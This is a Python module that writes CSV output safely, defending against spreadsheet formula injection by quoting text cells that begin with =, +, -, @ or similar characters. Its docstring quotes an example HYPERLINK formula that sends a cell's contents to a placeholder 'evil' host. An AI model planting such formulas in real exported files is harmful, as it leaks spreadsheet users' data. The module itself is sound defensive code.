"""CSV for spreadsheets: the one writer every CSV cnntool makes goes through.

A CSV file is opened in a spreadsheet, and a spreadsheet runs a cell that starts
with `=`, `+`, `-` or `@` as a formula (`=HYPERLINK("http://evil/?"&A1, "click")`
sends a neighbouring cell away; older ones ran commands). Student files put text
into cells (a file name, a student name, an error that quotes an id), so every text
cell that could be read as a formula gets a leading `'`, which spreadsheets show as
text and do not store (OWASP's advice for CSV injection). Numbers stay numbers:
an int or a float is written as it is, and so is text that is exactly a plain
number (`-3`, `0.5`), which a spreadsheet reads as that number and never as a formula.

Pure Python (csv and re only): `cnntool summary --format csv` imports it.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

#: First characters a spreadsheet may read as the start of a formula (with their full-width forms),
#: and tab / carriage return / newline, which some spreadsheets skip before looking.
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def safe_cell(value: Any) -> Any:
    """`value` as it may go into a CSV cell: numbers and None unchanged, formula-like text quoted with `'`."""
    if value is None or isinstance(value, (bool, int, float)):
        return value
    text = str(value)
    stripped = text.lstrip(" ")
    if not stripped or _PLAIN_NUMBER.match(stripped):
        return text
    if stripped[0] in FORMULA_STARTS or text[0] in FORMULA_STARTS:
        return "'" + text
    return text


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """Rows → CSV text ("\\n" line ends), every cell through `safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return buffer.getvalue()
